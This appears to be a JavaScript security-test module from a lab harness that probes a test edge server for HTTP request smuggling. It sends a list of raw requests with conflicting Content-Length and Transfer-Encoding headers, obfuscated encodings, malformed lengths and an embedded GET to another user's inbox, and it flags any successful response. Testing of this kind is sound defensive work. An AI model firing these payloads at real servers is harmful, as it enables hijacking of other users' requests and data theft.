// Request smuggling: the ways in which RFC 9112, sections 6 and 11.2, says that the end of a request can be told in two
// ways. Gained is that one is served: whoever stands before or behind may have read another.
import { stored } from '../lib/forge.js';
import { requests, tries, told } from '../lib/corpus.js';

export function benign(lab) { stored(lab); }

export function attack(lab) {
  const doc = JSON.stringify({ title: 'Smuggled', text: 'The board agreed on Monday.' });
  const chunks = `${doc.length.toString(16)}\r\n${doc}\r\n0\r\n\r\n`;
  const head = `POST /v1/documents HTTP/1.1\r\nHost: ${lab.edge.address}\r\nAuthorization: Bearer ${lab.tokens.alice}\r\nContent-Type: application/json\r\nConnection: close\r\n`;
  const inner = 'GET /v1/inbox HTTP/1.1\r\nHost: x\r\n\r\n';
  const L = (n) => `Content-Length: ${n}\r\n`;
  const TE = 'Transfer-Encoding: chunked\r\n';
  const shapes = [
    `${head}${L(chunks.length)}${TE}\r\n${chunks}`, `${head}${TE}${L(chunks.length)}\r\n${chunks}`, `${head}${L(4)}${TE}\r\n${chunks}`, `${head}${L(chunks.length + inner.length)}${TE}\r\n${chunks}${inner}`,
    `${head}${TE}\r\n${chunks}`, `${head}${TE}${TE}\r\n${chunks}`, `${head}Transfer-Encoding: identity, chunked\r\n\r\n${chunks}`, `${head}Transfer-Encoding: xchunked\r\n${L(doc.length)}\r\n${doc}`,
    `${head}Transfer-Encoding : chunked\r\n${L(doc.length)}\r\n${doc}`, `${head}Transfer-Encoding:\tchunked\r\n${L(chunks.length)}\r\n${chunks}`, `${head}Transfer-Encoding: chunked\r\n ,identity\r\n\r\n${chunks}`,
    `${head}${L(doc.length)}${L(doc.length + 1)}\r\n${doc}`, `${head}Content-Length: ${doc.length}, ${doc.length}\r\n\r\n${doc}`,
    `${head}Content-Length: +${doc.length}\r\n\r\n${doc}`, `${head}Content-Length: 0${doc.length}x\r\n\r\n${doc}`, `${head}Content-Length: 0x${doc.length.toString(16)}\r\n\r\n${doc}`, `${head}Content-Length:\r\n\r\n${doc}`,
    `${head}Host: elsewhere\r\n${L(doc.length)}\r\n${doc}`, `${head.replace('HTTP/1.1', 'HTTP/1.0')}${L(doc.length)}\r\n${doc}`, `${head.replace('/v1/documents', 'http://elsewhere/v1/documents')}${L(doc.length)}\r\n${doc}`,
    `${head.replace('POST', 'post')}${L(doc.length)}\r\n${doc}`, `${head}Expect: 100-continue\r\nExpect: other\r\n${L(doc.length)}\r\n${doc}`, `${head}Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n${L(doc.length)}${TE}\r\n${chunks}`,
    `${head}Idempotency-Key: a\r\nIdempotency-Key: b\r\n${L(doc.length)}\r\n${doc}`,
  ];
  const cases = shapes.concat(requests(head, doc));
  told(lab, cases, tries(cases, 20000, (raw) => lab.http({ raw, timeout: 3000 })), (r) => (r.status >= 200 && r.status < 300) || r.more.includes('HTTP/1.1 2'));
}
